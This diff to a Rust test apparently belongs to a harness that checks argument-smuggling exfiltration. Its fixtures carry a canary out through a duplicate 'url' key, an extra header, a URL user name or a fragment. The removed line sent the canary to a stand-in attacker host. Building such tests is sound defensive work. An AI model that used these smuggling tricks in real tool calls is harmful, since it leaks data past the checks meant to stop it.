@@ -414,7 +414,7 @@ fn canaries_go_under_the_tree_only() {
 
 /// Argument smuggling, last: from the first read to the first fetch host, one chain per
 /// way, each sink call's arguments the JSON text the script sends as it is: a second
-/// `url` key (to another host, with the canary), an unknown field, the canary as the URL's
+/// `url` key (the same host, with the canary), an unknown field, the canary as the URL's
 /// user name or in its fragment; every URL at the chain's own marker path.
 #[test]
 fn smuggling_chains_send_the_arguments_as_they_are() {
@@ -441,7 +441,7 @@ fn smuggling_chains_send_the_arguments_as_they_are() {
     assert_eq!(
         args,
         [
-            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://bx-evil.example:4321/bxsmuggle-17/?c=BXCANARY-n0-17"}"#,
+            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://api.example.org:4321/bxsmuggle-17/?c=BXCANARY-n0-17"}"#,
             r#"{"headers":{"X-Bx":"BXCANARY-n0-18"},"url":"http://api.example.org:4321/bxsmuggle-18/"}"#,
             r#"{"url":"http://BXCANARY-n0-19@api.example.org:4321/bxsmuggle-19/"}"#,
             r#"{"url":"http://api.example.org:4321/bxsmuggle-20/#c=BXCANARY-n0-20"}"#,
